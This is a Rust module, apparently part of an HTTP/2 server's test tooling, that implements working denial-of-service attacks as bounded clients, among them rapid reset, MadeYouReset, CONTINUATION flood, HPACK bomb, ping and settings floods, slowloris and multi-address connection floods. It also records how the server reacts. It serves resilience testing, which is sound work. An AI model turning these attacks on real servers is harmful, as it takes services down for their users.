//! Known HTTP/2 attacks on a server, each as a bounded client (issue 9 §1).
//!
//! Every attack runs until the server reacts or its budget (frames, bytes, seconds) is spent,
//! and reports what the server did: a GOAWAY (with its code — ENHANCE_YOUR_CALM is the
//! convention for floods), a plain close, TCP back-pressure (the server stopped reading: the
//! flood cannot grow its queues), stream resets, or nothing. Whether that is good enough, and
//! what the server's memory and its other clients saw meanwhile, is for the caller to judge —
//! the attack tests of h2mux assert it against `h2mux serve`.
//!
//! | attack | reference |
//! |---|---|
//! | data dribble | CVE-2019-9511 |
//! | ping flood | CVE-2019-9512 |
//! | priority resource loop | CVE-2019-9513 |
//! | reset flood | CVE-2019-9514 |
//! | settings flood | CVE-2019-9515 |
//! | zero-length headers | CVE-2019-9516 |
//! | internal data buffering | CVE-2019-9517 |
//! | empty frames flood | CVE-2019-9518 |
//! | rapid reset | CVE-2023-44487 |
//! | MadeYouReset (peer provokes our resets) | CVE-2025-8671 |
//! | CONTINUATION flood | VU#421644 (2024) |
//! | HPACK bomb | RFC 7541 §7.3, RFC 9113 §10.5.1 |
//! | slowloris on the preface | RFC 9113 §10.5 |
//! | slowloris on the TLS handshake | RFC 9113 §10.5 |
//! | connection flood (one address; many addresses) | RFC 9113 §10.5 |
//! | idle connections | RFC 9113 §10.5 |

use std::net::{SocketAddr, TcpStream};
use std::time::{Duration, Instant};

use h2mux_wire::ErrorCode;

use crate::conn::{
    flag, frame, kind, setting, settings_payload, Conn, Observed, SendOutcome, PREFACE,
};
use crate::hpack_lite;

/// How the server reacted to an attack.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Reaction {
    /// It sent GOAWAY with this code (and, usually, closed).
    Goaway(ErrorCode),
    /// It closed the connection without a GOAWAY.
    Closed,
    /// It stopped reading: our writes blocked (its queues cannot grow).
    Throttled,
    /// It reset this many of the attack's streams and kept the connection.
    ResetStreams(u64),
    /// It did nothing visible within the budget.
    Nothing,
}

/// The result of one attack.
#[derive(Debug, Clone)]
pub struct AttackReport {
    /// Attack name.
    pub name: &'static str,
    /// How the server reacted.
    pub reaction: Reaction,
    /// Frames the attacker wrote before the reaction (or the budget) stopped it.
    pub frames_sent: u64,
    /// Bytes the attacker wrote.
    pub bytes_sent: u64,
    /// How long the attack ran.
    pub elapsed: Duration,
    /// What else the attack saw (connection floods: how many were refused, closed, alive).
    pub detail: String,
}

/// Limits that keep every attack bounded.
#[derive(Debug, Clone, Copy)]
pub struct Budget {
    /// Most frames an attack writes.
    pub max_frames: u64,
    /// Longest an attack runs.
    pub max_time: Duration,
    /// How long a write may block before the server counts as throttling us.
    pub write_patience: Duration,
    /// How long to wait for the server's verdict after the flood.
    pub verdict_timeout: Duration,
    /// The local address attack connections come from (`None`: the system's choice). The
    /// well-behaved client of [`run_watched`] always uses the system's choice, so an
    /// attacker on 127.0.0.2 and the good client on 127.0.0.1 tell per-address limits from
    /// global ones.
    pub source: Option<std::net::IpAddr>,
}

impl Default for Budget {
    fn default() -> Self {
        Budget {
            max_frames: 1_000_000,
            max_time: Duration::from_secs(10),
            write_patience: Duration::from_millis(500),
            verdict_timeout: Duration::from_secs(3),
            source: None,
        }
    }
}

/// An attack: runs against a server address within a budget.
pub type Attack = fn(SocketAddr, &Budget) -> AttackReport;

/// Every attack by name, as `(name, run)`.
pub fn all() -> Vec<(&'static str, Attack)> {
    vec![
        ("data-dribble", data_dribble),
        ("ping-flood", ping_flood),
        ("priority-loop", priority_loop),
        ("reset-flood", reset_flood),
        ("settings-flood", settings_flood),
        ("zero-length-headers", zero_length_headers),
        ("internal-data-buffering", internal_data_buffering),
        ("empty-frames", empty_frames),
        ("rapid-reset", rapid_reset),
        ("made-you-reset", made_you_reset),
        ("continuation-flood", continuation_flood),
        ("hpack-bomb", hpack_bomb),
        ("slowloris-preface", slowloris_preface),
        ("slowloris-tls", slowloris_tls),
        ("connection-flood", connection_flood),
        ("connection-flood-spread", connection_flood_spread),
        ("idle-connections", idle_connections),
    ]
}

fn connect(addr: SocketAddr, budget: &Budget, settings: &[(u16, u32)]) -> Option<Conn> {
    let mut c = Conn::connect_from(
        addr,
        budget.source,
        &addr.to_string(),
        Duration::from_secs(3),
    )
    .ok()?;
    c.handshake(settings).ok()?;
    Some(c)
}

fn setup_failed(name: &'static str) -> AttackReport {
    AttackReport {
        name,
        reaction: Reaction::Closed,
        frames_sent: 0,
        bytes_sent: 0,
        elapsed: Duration::ZERO,
        detail: String::new(),
    }
}

/// Writes batches from `batch(i)` (each `frames_per_batch` frames) until the budget is spent,
/// the server blocks us or closes; then reads the server's verdict.
/// Whether a flood reads what the server sends while it floods.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Watch {
    /// Read on another thread: the flood stops as soon as the server's GOAWAY (or close)
    /// arrives, so `frames_sent` counts what was written before the reaction was seen.
    Reading,
    /// Never read during the flood (the attack is about replies left unread: PING and
    /// SETTINGS ACKs, RST_STREAMs); the verdict is read afterwards.
    NotReading,
}

/// Writes batches from `batch(i)` (each `frames_per_batch` frames) until the budget is spent,
/// the server blocks us, closes, or (with [`Watch::Reading`]) answers with GOAWAY; then
/// reads the server's verdict.
fn flood(
    name: &'static str,
    c: &mut Conn,
    budget: &Budget,
    frames_per_batch: u64,
    watch: Watch,
    mut batch: impl FnMut(u64) -> Vec<u8>,
) -> AttackReport {
    use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
    use std::sync::{Arc, Mutex};
    let started = Instant::now();
    let (mut frames, mut bytes, mut i) = (0u64, 0u64, 0u64);
    let mut stopped = None;
    let seen: Arc<Mutex<Option<Reaction>>> = Arc::new(Mutex::new(None));
    let resets = Arc::new(AtomicU64::new(0));
    let done = Arc::new(AtomicBool::new(false));
    let reader = match watch {
        Watch::Reading => c.reader().ok().map(|mut r| {
            let (seen, resets, done) = (seen.clone(), resets.clone(), done.clone());
            std::thread::spawn(move || {
                while !done.load(Ordering::Relaxed) {
                    let reaction =
                        match r.read_frame_until(Instant::now() + Duration::from_millis(100)) {
                            Observed::Frame(f) if f.kind == kind::GOAWAY => {
                                Reaction::Goaway(f.error_code().unwrap_or(ErrorCode::NO_ERROR))
                            }
                            Observed::Frame(f) => {
                                if f.kind == kind::RST_STREAM {
                                    resets.fetch_add(1, Ordering::Relaxed);
                                }
                                continue;
                            }
                            Observed::Closed => Reaction::Closed,
                            Observed::Timeout => continue,
                        };
                    *seen.lock().unwrap_or_else(|e| e.into_inner()) = Some(reaction);
                    return;
                }
            })
        }),
        Watch::NotReading => None,
    };
    let reacted = || seen.lock().unwrap_or_else(|e| e.into_inner()).is_some();
    while frames < budget.max_frames && started.elapsed() < budget.max_time && !reacted() {
        let b = batch(i);
        i += 1;
        match c.send_bounded(&b, budget.write_patience) {
            SendOutcome::Sent => {
                frames += frames_per_batch;
                bytes += b.len() as u64;
            }
            SendOutcome::Blocked => {
                stopped = Some(Reaction::Throttled);
                break;
            }
            SendOutcome::Closed => {
                stopped = Some(Reaction::Closed);
                break;
            }
        }
    }
    let reaction = match reader {
        Some(thread) => {
            // Give the server its verdict time, then stop reading.
            let deadline = Instant::now() + budget.verdict_timeout;
            while !reacted() && Instant::now() < deadline && !thread.is_finished() {
                std::thread::sleep(Duration::from_millis(10));
            }
            done.store(true, Ordering::Relaxed);
            let _ = thread.join();
            let seen = seen.lock().unwrap_or_else(|e| e.into_inner()).clone();
            let resets = resets.load(Ordering::Relaxed);
            match (seen, stopped) {
                (Some(r @ Reaction::Goaway(_)), _) => r,
                (_, Some(r)) => r,
                (Some(r), None) => r,
                (None, None) if resets > 0 => Reaction::ResetStreams(resets),
                (None, None) => Reaction::Nothing,
            }
        }
        None => verdict(c, budget, stopped),
    };
    AttackReport {
        name,
        reaction,
        frames_sent: frames,
        bytes_sent: bytes,
        elapsed: started.elapsed(),
        detail: String::new(),
    }
}

/// Reads what the server sent: a GOAWAY wins over everything; then a close; then what the
/// flood saw (throttled); then stream resets; else nothing.
fn verdict(c: &mut Conn, budget: &Budget, during_flood: Option<Reaction>) -> Reaction {
    let deadline = Instant::now() + budget.verdict_timeout;
    let mut resets = 0u64;
    loop {
        match c.read_frame_until(deadline) {
            Observed::Frame(f) if f.kind == kind::GOAWAY => {
                return Reaction::Goaway(f.error_code().unwrap_or(ErrorCode::NO_ERROR));
            }
            Observed::Frame(f) if f.kind == kind::RST_STREAM => resets += 1,
            Observed::Frame(_) => {}
            Observed::Closed => return Reaction::Closed,
            Observed::Timeout => break,
        }
    }
    match during_flood {
        Some(r) => r,
        None if resets > 0 => Reaction::ResetStreams(resets),
        None => Reaction::Nothing,
    }
}

fn request(c: &Conn, path: &str, end_stream: bool, stream: u32) -> Vec<u8> {
    let mut block = Vec::new();
    for (n, v) in [
        (":method", if end_stream { "GET" } else { "POST" }),
        (":scheme", "http"),
        (":path", path),
    ] {
        hpack_lite::literal(&mut block, n.as_bytes(), v.as_bytes());
    }
    hpack_lite::literal(&mut block, b":authority", c.authority.as_bytes());
    let flags = flag::END_HEADERS | if end_stream { flag::END_STREAM } else { 0 };
    frame(kind::HEADERS, flags, stream, &block)
}

/// A large response to ask for: `h2mux serve` streams `/bytes/N`; other servers answer
/// something (a 404 body at least), which is all the attack needs.
const LARGE_PATH: &str = "/bytes/1073741824";

/// CVE-2019-9511: many streams asking for large responses through 1-octet windows opened one
/// octet at a time, so a naive server queues the whole response in tiny chunks.
pub fn data_dribble(addr: SocketAddr, budget: &Budget) -> AttackReport {
    let Some(mut c) = connect(addr, budget, &[(setting::INITIAL_WINDOW_SIZE, 1)]) else {
        return setup_failed("data-dribble");
    };
    let mut open = Vec::new();
    for i in 0..100u32 {
        open.extend(request(&c, LARGE_PATH, true, 2 * i + 1));
    }
    c.send_bytes(&open);
    flood("data-dribble", &mut c, budget, 100, Watch::Reading, |_| {
        let mut b = Vec::new();
        for i in 0..100u32 {
            b.extend(frame(
                kind::WINDOW_UPDATE,
                0,
                2 * i + 1,
                &1u32.to_be_bytes(),
            ));
        }
        b
    })
}

/// CVE-2019-9512: PINGs as fast as possible, never reading the ACKs.
pub fn ping_flood(addr: SocketAddr, budget: &Budget) -> AttackReport {
    let Some(mut c) = connect(addr, budget, &[]) else {
        return setup_failed("ping-flood");
    };
    flood("ping-flood", &mut c, budget, 1000, Watch::NotReading, |i| {
        let mut b = Vec::with_capacity(17_000);
        for j in 0..1000u64 {
            b.extend(frame(kind::PING, 0, 0, &(i * 1000 + j).to_be_bytes()));
        }
        b
    })
}

/// CVE-2019-9513: PRIORITY frames that keep reshuffling a dependency tree into cycles.
pub fn priority_loop(addr: SocketAddr, budget: &Budget) -> AttackReport {
    let Some(mut c) = connect(addr, budget, &[]) else {
        return setup_failed("priority-loop");
    };
    flood("priority-loop", &mut c, budget, 1000, Watch::Reading, |i| {
        let mut b = Vec::new();
        for j in 0..1000u32 {
            let s = 2 * ((j + i as u32) % 200) + 1;
            let dep = 2 * ((j + i as u32 + 1) % 200) + 1;
            b.extend(frame(
                kind::PRIORITY,
                0,
                s,
                &[&(dep | 0x8000_0000).to_be_bytes()[..], &[255]].concat(),
            ));
        }
        b
    })
}

/// CVE-2019-9514: malformed requests that each make the server send RST_STREAM, never
/// reading the resets.
pub fn reset_flood(addr: SocketAddr, budget: &Budget) -> AttackReport {
    let Some(mut c) = connect(addr, budget, &[]) else {
        return setup_failed("reset-flood");
    };
    let authority = c.authority.clone();
    flood(
        "reset-flood",
        &mut c,
        budget,
        100,
        Watch::NotReading,
        move |i| {
            let mut b = Vec::new();
            for j in 0..100u64 {
                let id = (2 * (i * 100 + j) + 1) as u32;
                let block = hpack_lite::block(&[
                    (":method", "GET"),
                    (":scheme", "http"),
                    (":path", "/"),
                    (":authority", &authority),
                    ("X-Upper", "malformed"),
                ]);
                b.extend(frame(
                    kind::HEADERS,
                    flag::END_HEADERS | flag::END_STREAM,
                    id,
                    &block,
                ));
            }
            b
        },
    )
}

/// CVE-2019-9515: SETTINGS frames as fast as possible, never reading the ACKs.
pub fn settings_flood(addr: SocketAddr, budget: &Budget) -> AttackReport {
    let Some(mut c) = connect(addr, budget, &[]) else {
        return setup_failed("settings-flood");
    };
    flood(
        "settings-flood",
        &mut c,
        budget,
        1000,
        Watch::NotReading,
        |_| {
            let one = frame(
                kind::SETTINGS,
                0,
                0,
                &settings_payload(&[(setting::MAX_CONCURRENT_STREAMS, 100)]),
            );
            one.repeat(1000)
        },
    )
}

/// CVE-2019-9516: header blocks of many empty names and values (each costs the server 32
/// octets of accounting and nothing on the wire but 3 octets).
pub fn zero_length_headers(addr: SocketAddr, budget: &Budget) -> AttackReport {
    let Some(mut c) = connect(addr, budget, &[]) else {
        return setup_failed("zero-length-headers");
    };
    let authority = c.authority.clone();
    flood(
        "zero-length-headers",
        &mut c,
        budget,
        1,
        Watch::Reading,
        move |i| {
            let mut block = hpack_lite::block(&[
                (":method", "GET"),
                (":scheme", "http"),
                (":path", "/"),
                (":authority", &authority),
            ]);
            for _ in 0..4000 {
                block.extend_from_slice(&[0x00, 0x00, 0x00]);
            }
            frame(
                kind::HEADERS,
                flag::END_HEADERS | flag::END_STREAM,
                (2 * i + 1) as u32,
                &block,
            )
        },
    )
}

/// CVE-2019-9517: open every flow-control window wide, ask for large responses, and never
/// read from the socket, so the server's writes pile up in its own buffers.
pub fn internal_data_buffering(addr: SocketAddr, budget: &Budget) -> AttackReport {
    let started = Instant::now();
    let Some(mut c) = connect(
        addr,
        budget,
        &[(setting::INITIAL_WINDOW_SIZE, (1 << 31) - 1)],
    ) else {
        return setup_failed("internal-data-buffering");
    };
    let mut b = frame(
        kind::WINDOW_UPDATE,
        0,
        0,
        &((1u32 << 31) - 1 - 65_535).to_be_bytes(),
    );
    for i in 0..100u32 {
        b.extend(request(&c, LARGE_PATH, true, 2 * i + 1));
    }
    let frames = 101;
    let bytes = b.len() as u64;
    c.send_bytes(&b);
    // Never read: just wait out the budget, then see whether the connection survived.
    std::thread::sleep(budget.max_time.min(Duration::from_secs(5)));
    let reaction = verdict(
        &mut c,
        &Budget {
            verdict_timeout: Duration::from_millis(200),
            ..*budget
        },
        None,
    );
    AttackReport {
        name: "internal-data-buffering",
        reaction,
        frames_sent: frames,
        bytes_sent: bytes,
        elapsed: started.elapsed(),
        detail: String::new(),
    }
}

/// CVE-2019-9518: empty DATA frames (no payload, no END_STREAM) on an open stream.
pub fn empty_frames(addr: SocketAddr, budget: &Budget) -> AttackReport {
    let Some(mut c) = connect(addr, budget, &[]) else {
        return setup_failed("empty-frames");
    };
    let open = request(&c, "/", false, 1);
    c.send_bytes(&open);
    flood("empty-frames", &mut c, budget, 1000, Watch::Reading, |_| {
        frame(kind::DATA, 0, 1, &[]).repeat(1000)
    })
}

/// CVE-2023-44487: open a stream and reset it at once, over and over.
pub fn rapid_reset(addr: SocketAddr, budget: &Budget) -> AttackReport {
    stream_churn("rapid-reset", addr, budget, true, |id| {
        frame(kind::RST_STREAM, 0, id, &ErrorCode::CANCEL.0.to_be_bytes())
    })
}

/// CVE-2025-8671 (MadeYouReset): valid streams followed by a frame that obliges the server to
/// reset them (a zero WINDOW_UPDATE increment), so the reset counts as the server's own.
pub fn made_you_reset(addr: SocketAddr, budget: &Budget) -> AttackReport {
    stream_churn("made-you-reset", addr, budget, false, |id| {
        frame(kind::WINDOW_UPDATE, 0, id, &0u32.to_be_bytes())
    })
}

/// Opens streams 100 at a time (GET with END_STREAM or an open POST), each followed at once
/// by `then(stream_id)`.
fn stream_churn(
    name: &'static str,
    addr: SocketAddr,
    budget: &Budget,
    end_stream: bool,
    then: fn(u32) -> Vec<u8>,
) -> AttackReport {
    let Some(mut c) = connect(addr, budget, &[]) else {
        return setup_failed(name);
    };
    let template = request(&c, "/", end_stream, 1);
    flood(name, &mut c, budget, 200, Watch::Reading, move |i| {
        let mut b = Vec::new();
        for j in 0..100u64 {
            let id = (2 * (i * 100 + j) + 1) as u32;
            let mut h = template.clone();
            h[5..9].copy_from_slice(&id.to_be_bytes());
            b.extend(h);
            b.extend(then(id));
        }
        b
    })
}

/// The 2024 CONTINUATION flood: a HEADERS frame without END_HEADERS followed by endless
/// CONTINUATION frames, never ending the block.
pub fn continuation_flood(addr: SocketAddr, budget: &Budget) -> AttackReport {
    let Some(mut c) = connect(addr, budget, &[]) else {
        return setup_failed("continuation-flood");
    };
    let authority = c.authority.clone();
    let block = hpack_lite::block(&[
        (":method", "GET"),
        (":scheme", "http"),
        (":path", "/"),
        (":authority", &authority),
    ]);
    c.send(kind::HEADERS, flag::END_STREAM, 1, &block);
    let mut filler = Vec::new();
    hpack_lite::literal(&mut filler, b"x-filler", &[b'a'; 1000]);
    flood(
        "continuation-flood",
        &mut c,
        budget,
        10,
        Watch::Reading,
        move |_| frame(kind::CONTINUATION, 0, 1, &filler).repeat(10),
    )
}

/// HPACK bomb: one 4 000-octet dynamic table entry, then header blocks that reference it
/// thousands of times (one octet each), so each block decodes to megabytes.
pub fn hpack_bomb(addr: SocketAddr, budget: &Budget) -> AttackReport {
    let Some(mut c) = connect(addr, budget, &[]) else {
        return setup_failed("hpack-bomb");
    };
    let authority = c.authority.clone();
    flood("hpack-bomb", &mut c, budget, 1, Watch::Reading, move |i| {
        let mut block = hpack_lite::block(&[
            (":method", "GET"),
            (":scheme", "http"),
            (":path", "/"),
            (":authority", &authority),
        ]);
        if i == 0 {
            // Literal with incremental indexing, new name: becomes dynamic index 62.
            block.push(0x40);
            hpack_lite::string(&mut block, b"x-bomb");
            hpack_lite::string(&mut block, &[b'b'; 4000]);
        }
        block.extend(std::iter::repeat_n(0xbe, 8000)); // 8 000 × indexed 62 ≈ 32 MB decoded
        frame(
            kind::HEADERS,
            flag::END_HEADERS | flag::END_STREAM,
            (2 * i + 1) as u32,
            &block,
        )
    })
}

/// Slowloris on the preface: one octet of the client preface every 500 ms. A server must
/// close such a connection after a bounded time.
pub fn slowloris_preface(addr: SocketAddr, budget: &Budget) -> AttackReport {
    let started = Instant::now();
    let Ok(mut c) = Conn::connect_from(
        addr,
        budget.source,
        &addr.to_string(),
        Duration::from_millis(500),
    ) else {
        return setup_failed("slowloris-preface");
    };
    // Never write anything but the dribbled preface (no SETTINGS ACK either).
    c.auto_ack_settings = false;
    let deadline = started + budget.max_time.max(Duration::from_secs(30));
    let mut sent = 0u64;
    let mut reaction = Reaction::Nothing;
    'dribble: for byte in PREFACE.iter() {
        if c.send_bounded(&[*byte], budget.write_patience) != SendOutcome::Sent {
            reaction = Reaction::Closed;
            break;
        }
        sent += 1;
        // Wait 500 ms, watching for the server giving up on us.
        let pause = Instant::now() + Duration::from_millis(500);
        loop {
            match c.read_frame_until(pause) {
                Observed::Frame(f) if f.kind == kind::GOAWAY => {
                    reaction = Reaction::Goaway(f.error_code().unwrap_or(ErrorCode::NO_ERROR));
                    break 'dribble;
                }
                Observed::Closed => {
                    reaction = Reaction::Closed;
                    break 'dribble;
                }
                Observed::Frame(_) => {}
                Observed::Timeout => break,
            }
        }
    }
    // Preface done (slowly) and no SETTINGS: wait for the server's handshake timeout.
    while reaction == Reaction::Nothing && Instant::now() < deadline {
        match c.read_frame_until(deadline) {
            Observed::Frame(f) if f.kind == kind::GOAWAY => {
                reaction = Reaction::Goaway(f.error_code().unwrap_or(ErrorCode::NO_ERROR))
            }
            Observed::Closed => reaction = Reaction::Closed,
            Observed::Frame(_) => {}
            Observed::Timeout => break,
        }
    }
    AttackReport {
        name: "slowloris-preface",
        reaction,
        frames_sent: sent,
        bytes_sent: sent,
        elapsed: started.elapsed(),
        detail: String::new(),
    }
}

/// How many connections a connection flood opens.
const FLOOD_CONNECTIONS: usize = 2000;

/// Connection flood: 2 000 TCP connections from one address that never send a byte. A
/// server should refuse those beyond its per-address limit at once and close the rest
/// within its handshake timeout. `frames_sent` is the number of connections attempted;
/// the reaction is GOAWAY(code) when refusals came with one, `Closed` when every connection
/// was closed (or refused by the kernel), `Nothing` when some were still open at the end.
pub fn connection_flood(addr: SocketAddr, budget: &Budget) -> AttackReport {
    flood_connections("connection-flood", addr, budget, &[budget.source], false)
}

/// Connection flood from many addresses: 2 000 idle connections spread over 20 loopback
/// source addresses (127.0.0.10–29; only the budget's source when the target is not
/// loopback), each under a per-address limit of 100 or more, so that only a global
/// connection limit stops them.
pub fn connection_flood_spread(addr: SocketAddr, budget: &Budget) -> AttackReport {
    let sources: Vec<Option<std::net::IpAddr>> = if addr.ip().is_loopback() && addr.is_ipv4() {
        (10..30u8)
            .map(|i| Some(std::net::IpAddr::from([127, 0, 0, i])))
            .collect()
    } else {
        vec![budget.source]
    };
    flood_connections("connection-flood-spread", addr, budget, &sources, false)
}

/// Idle HTTP/2 connections: 200 connections that complete the preface and SETTINGS
/// exchange correctly and then never open a stream. A server should close them after its
/// idle timeout (GOAWAY, typically NO_ERROR).
pub fn idle_connections(addr: SocketAddr, budget: &Budget) -> AttackReport {
    flood_connections("idle-connections", addr, budget, &[budget.source], true)
}

/// What became of one flood connection.
struct Flooded {
    sock: TcpStream,
    buf: Vec<u8>,
    goaway: Option<ErrorCode>,
    closed_after: Option<Duration>,
}

impl Flooded {
    /// Reads what the server sent without blocking; notes a GOAWAY and a close.
    fn poll(&mut self, started: Instant) {
        if self.closed_after.is_some() {
            return;
        }
        let mut chunk = [0u8; 4096];
        loop {
            match std::io::Read::read(&mut &self.sock, &mut chunk) {
                Ok(0) => {
                    self.closed_after = Some(started.elapsed());
                    break;
                }
                Ok(n) => self.buf.extend_from_slice(&chunk[..n]),
                Err(e) if e.kind() == std::io::ErrorKind::WouldBlock => break,
                Err(_) => {
                    self.closed_after = Some(started.elapsed());
                    break;
                }
            }
        }
        while self.buf.len() >= 9 {
            let len = (usize::from(self.buf[0]) << 16)
                | (usize::from(self.buf[1]) << 8)
                | usize::from(self.buf[2]);
            if self.buf.len() < 9 + len {
                break;
            }
            if self.buf[3] == kind::GOAWAY && len >= 8 {
                let c = &self.buf[13..17];
                self.goaway = Some(ErrorCode::from(u32::from_be_bytes([
                    c[0], c[1], c[2], c[3],
                ])));
            }
            self.buf.drain(..9 + len);
        }
    }
}

fn flood_connections(
    name: &'static str,
    addr: SocketAddr,
    budget: &Budget,
    sources: &[Option<std::net::IpAddr>],
    handshake: bool,
) -> AttackReport {
    let started = Instant::now();
    let count = if handshake { 200 } else { FLOOD_CONNECTIONS };
    let mut conns: Vec<Flooded> = Vec::new();
    let mut kernel_refused = 0u64;
    let mut bytes = 0u64;
    for i in 0..count {
        let from = sources[i % sources.len()];
        let sock = match crate::conn::tcp_connect(addr, from, Duration::from_millis(500)) {
            Ok(s) => s,
            Err(_) => {
                kernel_refused += 1;
                continue;
            }
        };
        if handshake {
            let mut hello = PREFACE.to_vec();
            hello.extend(frame(kind::SETTINGS, 0, 0, &[]));
            hello.extend(frame(kind::SETTINGS, flag::ACK, 0, &[]));
            bytes += hello.len() as u64;
            let _ = std::io::Write::write_all(&mut &sock, &hello);
        }
        let _ = sock.set_nonblocking(true);
        conns.push(Flooded {
            sock,
            buf: Vec::new(),
            goaway: None,
            closed_after: None,
        });
        if started.elapsed() > budget.max_time {
            break;
        }
    }
    let opened = conns.len();
    // Wait for the server's limits and timeouts (at least 15 s), then count survivors.
    let deadline = started + budget.max_time.max(Duration::from_secs(15));
    loop {
        for c in conns.iter_mut() {
            c.poll(started);
        }
        let alive = conns.iter().filter(|c| c.closed_after.is_none()).count();
        if alive == 0 || Instant::now() >= deadline {
            break;
        }
        std::thread::sleep(Duration::from_millis(200));
    }
    let alive = conns.iter().filter(|c| c.closed_after.is_none()).count();
    let mut codes: Vec<ErrorCode> = conns.iter().filter_map(|c| c.goaway).collect();
    codes.sort_by_key(|c| c.0);
    codes.dedup();
    let refused_calm = conns
        .iter()
        .filter(|c| c.goaway == Some(ErrorCode::ENHANCE_YOUR_CALM))
        .count();
    let last_close = conns.iter().filter_map(|c| c.closed_after).max();
    let reaction = if alive > 0 {
        Reaction::Nothing
    } else if refused_calm > 0 {
        Reaction::Goaway(ErrorCode::ENHANCE_YOUR_CALM)
    } else if let Some(code) = codes.first() {
        Reaction::Goaway(*code)
    } else {
        Reaction::Closed
    };
    let detail =
        format!(
        "{opened} opened ({kernel_refused} refused by the kernel): {refused_calm} refused with \
         GOAWAY ENHANCE_YOUR_CALM, {} closed later, {alive} still open; last closed after {:.1} s; \
         GOAWAY codes seen: {}",
        opened - refused_calm - alive,
        last_close.unwrap_or_default().as_secs_f64(),
        codes.iter().map(|c| c.to_string()).collect::<Vec<_>>().join(", ")
    );
    AttackReport {
        name,
        reaction,
        frames_sent: (opened as u64) + kernel_refused,
        bytes_sent: bytes,
        elapsed: started.elapsed(),
        detail,
    }
}

/// Slowloris on the TLS handshake: a TLS record header announcing a 512-octet ClientHello,
/// then one octet every 500 ms. A TLS server must drop the connection after a bounded
/// handshake time (against h2c the octets are just an invalid preface).
pub fn slowloris_tls(addr: SocketAddr, budget: &Budget) -> AttackReport {
    let started = Instant::now();
    let Ok(sock) = crate::conn::tcp_connect(addr, budget.source, Duration::from_secs(3)) else {
        return setup_failed("slowloris-tls");
    };
    // Handshake record (22), TLS 1.0 record version, 512 octets; then ClientHello (1), ...
    let mut dribble = vec![
        0x16, 0x03, 0x01, 0x02, 0x00, 0x01, 0x00, 0x01, 0xfc, 0x03, 0x03,
    ];
    dribble.extend(std::iter::repeat_n(0x42u8, 501));
    let deadline = started + budget.max_time.max(Duration::from_secs(30));
    let mut sent = 0u64;
    let mut reaction = Reaction::Nothing;
    let _ = sock.set_read_timeout(Some(Duration::from_millis(500)));
    let _ = sock.set_write_timeout(Some(budget.write_patience));
    for b in dribble {
        if Instant::now() >= deadline {
            break;
        }
        if std::io::Write::write_all(&mut &sock, &[b]).is_err() {
            reaction = Reaction::Closed;
            break;
        }
        sent += 1;
        let mut buf = [0u8; 1024];
        match std::io::Read::read(&mut &sock, &mut buf) {
            Ok(0) => {
                reaction = Reaction::Closed;
                break;
            }
            // A TLS alert or an HTTP/2 GOAWAY: the server gave up on us, and says so.
            Ok(_) => {}
            Err(e)
                if matches!(
                    e.kind(),
                    std::io::ErrorKind::WouldBlock | std::io::ErrorKind::TimedOut
                ) => {}
            Err(_) => {
                reaction = Reaction::Closed;
                break;
            }
        }
    }
    AttackReport {
        name: "slowloris-tls",
        reaction,
        frames_sent: sent,
        bytes_sent: sent,
        elapsed: started.elapsed(),
        detail: String::new(),
    }
}

/// A well-behaved client running beside an attack: GET `/` on one connection, one request at
/// a time, until `stop`; returns each request's latency (None for a request that failed).
pub fn well_behaved_client(
    addr: SocketAddr,
    stop: &std::sync::atomic::AtomicBool,
    first_answer: Option<std::sync::mpsc::Sender<()>>,
) -> Vec<Option<Duration>> {
    let mut first_answer = first_answer;
    let mut out = Vec::new();
    let budget = Budget::default();
    let mut conn = connect(addr, &budget, &[]);
    let mut stream = 1u32;
    while !stop.load(std::sync::atomic::Ordering::Relaxed) && out.len() < 100_000 {
        let Some(c) = conn.as_mut() else {
            // Reconnect (after a failure already counted): only a failed connect counts.
            std::thread::sleep(Duration::from_millis(100));
            conn = connect(addr, &budget, &[]);
            stream = 1;
            if conn.is_none() {
                eprintln!("well-behaved client: cannot connect");
                out.push(None);
            }
            continue;
        };
        let t = Instant::now();
        c.open_stream(stream, true);
        let mut ok = false;
        let why;
        let deadline = t + Duration::from_secs(5);
        loop {
            match c.read_frame_until(deadline) {
                Observed::Frame(f) if f.stream == stream && f.flags & flag::END_STREAM != 0 => {
                    ok = f.kind == kind::HEADERS || f.kind == kind::DATA;
                    why = f.describe();
                    break;
                }
                Observed::Frame(f) if f.kind == kind::DATA && f.stream == stream => {
                    // Give the window back so long bodies keep flowing.
                    let n = (f.payload.len() as u32).to_be_bytes();
                    c.send(kind::WINDOW_UPDATE, 0, 0, &n);
                    c.send(kind::WINDOW_UPDATE, 0, stream, &n);
                }
                Observed::Frame(f)
                    if f.kind == kind::GOAWAY
                        || (f.kind == kind::RST_STREAM && f.stream == stream) =>
                {
                    why = f.describe();
                    break;
                }
                Observed::Frame(_) => {}
                Observed::Closed => {
                    why = "the connection was closed".into();
                    break;
                }
                Observed::Timeout => {
                    why = "no answer within 5 s".into();
                    break;
                }
            }
        }
        if ok {
            if let Some(tx) = first_answer.take() {
                let _ = tx.send(());
            }
            out.push(Some(t.elapsed()));
            stream += 2;
            std::thread::sleep(Duration::from_millis(20));
        } else {
            eprintln!("well-behaved client: request on stream {stream} failed: {why}");
            out.push(None);
            conn = None;
        }
    }
    out
}

/// Resident memory of process `pid` in KiB (Linux `/proc/<pid>/status`, `VmRSS`).
pub fn rss_kib(pid: u32) -> Option<u64> {
    let status = std::fs::read_to_string(format!("/proc/{pid}/status")).ok()?;
    status
        .lines()
        .find(|l| l.starts_with("VmRSS:"))?
        .split_whitespace()
        .nth(1)?
        .parse()
        .ok()
}

/// An attack run beside a well-behaved client, with the server's memory watched.
#[derive(Debug, Clone)]
pub struct Watched {
    /// The attack's own report.
    pub report: AttackReport,
    /// Server RSS before the attack (KiB).
    pub rss_before_kib: u64,
    /// Highest server RSS seen during the attack (KiB).
    pub rss_peak_kib: u64,
    /// Latencies of the well-behaved client's requests during the attack (None: failed).
    pub good_client: Vec<Option<Duration>>,
}

impl Watched {
    /// RSS growth during the attack, in KiB.
    pub fn rss_growth_kib(&self) -> u64 {
        self.rss_peak_kib.saturating_sub(self.rss_before_kib)
    }
    /// Requests of the well-behaved client that failed.
    pub fn good_failures(&self) -> usize {
        self.good_client.iter().filter(|l| l.is_none()).count()
    }
    /// Slowest successful request of the well-behaved client.
    pub fn good_max_latency(&self) -> Option<Duration> {
        self.good_client.iter().flatten().max().copied()
    }
}

/// Runs `attack` against the server process `pid` listening on `addr`, with a well-behaved
/// client on a second connection and the server's RSS sampled every 50 ms.
